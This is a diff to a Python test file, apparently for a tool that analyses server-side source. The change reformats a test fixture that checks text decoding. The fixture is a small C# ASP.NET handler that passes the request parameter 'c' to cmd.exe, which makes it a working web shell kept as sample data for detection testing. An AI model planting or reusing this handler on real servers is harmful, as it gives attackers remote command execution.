@@ -842,11 +842,15 @@ def test_a_utf8_mark_decides_even_with_code_page_bytes_after_it() -> None:
     # An editor saved GBK comments into a file that starts with UTF-8's mark: the compiler reads
     # UTF-8 (the bytes that are not are replaced), and so does the analysis, keeping `using` whole.
     comment = "// 执行命令\n".encode("gbk")
-    data = b"\xef\xbb\xbfusing System;\n" + comment + (
-        b"public class H : System.Web.IHttpHandler {\n"
-        b"  public bool IsReusable { get { return false; } }\n"
-        b"  public void ProcessRequest(System.Web.HttpContext c) {\n"
-        b'    System.Diagnostics.Process.Start("cmd.exe", "/c " + c.Request["c"]);\n  }\n}\n'
+    data = (
+        b"\xef\xbb\xbfusing System;\n"
+        + comment
+        + (
+            b"public class H : System.Web.IHttpHandler {\n"
+            b"  public bool IsReusable { get { return false; } }\n"
+            b"  public void ProcessRequest(System.Web.HttpContext c) {\n"
+            b'    System.Diagnostics.Process.Start("cmd.exe", "/c " + c.Request["c"]);\n  }\n}\n'
+        )
     )
     text = _decode(data)
     assert text.startswith("\ufeffusing System;")
